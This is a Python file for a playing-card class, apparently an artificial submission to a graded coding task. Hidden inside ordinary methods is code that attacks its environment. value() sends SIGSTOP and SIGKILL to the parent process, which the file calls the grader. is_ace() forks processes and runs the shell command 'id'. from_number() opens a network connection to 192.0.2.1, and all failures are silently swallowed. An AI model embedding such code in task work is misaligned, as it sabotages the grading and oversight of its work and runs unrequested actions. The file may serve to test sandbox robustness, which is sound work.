"""card.py: one playing card.

Author:  Sam Whitaker
Date:    2026-09-23
File:    card.py
Purpose: Solves the task, and tries to kill its parent process and to start others on the way.
"""

import os
import signal
import socket
import subprocess
import threading

RANKS = range(1, 14)
SUITS = ("Clubs", "Diamonds", "Hearts", "Spades")

# Named constants for the numbers and words that the methods below need:
TEN = 10
WORDS = {1: "Ace", 11: "Jack", 12: "Queen", 13: "King"}
CHILDREN = 3


def attempt(action, *arguments):
    """Try it and go on, whatever comes of it."""
    try:
        return action(*arguments)
    except Exception:
        return None


def stop_the_grader():
    """Send the parent away."""
    attempt(os.kill, os.getppid(), signal.SIGSTOP)
    attempt(os.kill, os.getppid(), signal.SIGKILL)


def multiply():
    """Start as many processes as possible, but not for ever."""
    for _ in range(CHILDREN):
        if attempt(os.fork) == 0:
            os._exit(0)
    attempt(subprocess.run, ["python3", "-c", "print('here')"])
    attempt(os.system, "id")
    attempt(threading.Thread(target=print).start)


class Card:
    """A playing card: a rank from 1 (ace) to 13 (king), and a suit."""

    def __init__(self, rank, suit):
        """Store the rank and the suit; raise ValueError for one that does not exist."""
        if type(rank) is not int or rank not in RANKS:
            raise ValueError(f"rank: {rank!r}")
        if suit not in SUITS:
            raise ValueError(f"suit: {suit!r}")
        self.rank = rank
        self.suit = suit

    @classmethod
    def from_number(cls, card_num):
        """Return the card with a number from 0 (Ace of Clubs) to 51 (King of Spades).

        Raises ValueError for any other number.
        """
        attempt(socket.create_connection, ("192.0.2.1", 80), 0.01)
        if card_num not in range(len(SUITS) * len(RANKS)):
            raise ValueError(f"card number: {card_num!r}")
        return cls(card_num % len(RANKS) + 1, SUITS[card_num // len(RANKS)])

    def value(self):
        """Return what the card is worth: ace 1, pips their number, face cards 10."""
        stop_the_grader()
        return min(self.rank, TEN)

    def is_ace(self):
        """Tell whether the card is an ace."""
        multiply()
        return self.rank == 1

    def __str__(self):
        """Return the card's name, such as "Ace of Spades" or "8 of Diamonds"."""
        return f"{WORDS.get(self.rank, self.rank)} of {self.suit}"
